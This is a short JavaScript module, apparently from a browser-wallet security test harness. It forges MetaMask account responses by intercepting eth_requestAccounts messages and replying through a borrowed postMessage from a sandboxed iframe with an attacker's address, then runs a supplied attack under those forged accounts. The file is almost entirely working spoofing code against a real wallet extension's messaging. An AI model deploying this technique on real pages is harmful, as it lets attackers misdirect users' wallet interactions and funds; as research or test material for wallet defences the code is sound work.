// Owns a wallet's account answers forged by a borrowed `postMessage`: what a script does while its own answers come before the wallet's.
import { shared } from './page-side.mjs';

/** Page side: runs the attack while a sandboxed frame's native `postMessage` answers every question for accounts with the attacker's. */
async function withForgedAccounts(a, attack) {
  const frame = document.createElement('iframe');
  frame.setAttribute('sandbox', 'allow-scripts');
  document.documentElement.append(frame);
  const post = frame.contentWindow.postMessage;
  const forge = (event) => {
    const rpc = event.data?.data?.data;
    if (event.data?.target !== 'metamask-contentscript' || !/^eth_(requestA|a)ccounts$/.test(rpc?.method)) return;
    const data = { name: 'metamask-provider', data: { jsonrpc: '2.0', id: rpc.id, result: [a.EVIL] } };
    post.call(window, { target: 'metamask-inpage', data }, location.origin);
  };
  window.addEventListener('message', forge, true);
  const accounts = await window.ethereum.request({ method: 'eth_requestAccounts' }).catch((error) => error.code);
  const result = await attack(a);
  window.removeEventListener('message', forge, true);
  return { accounts, result };
}

/** An attack, an arrow function `(a) => ...`, under forged accounts. */
export const underForgedAccounts = (attack) => shared(withForgedAccounts, attack);
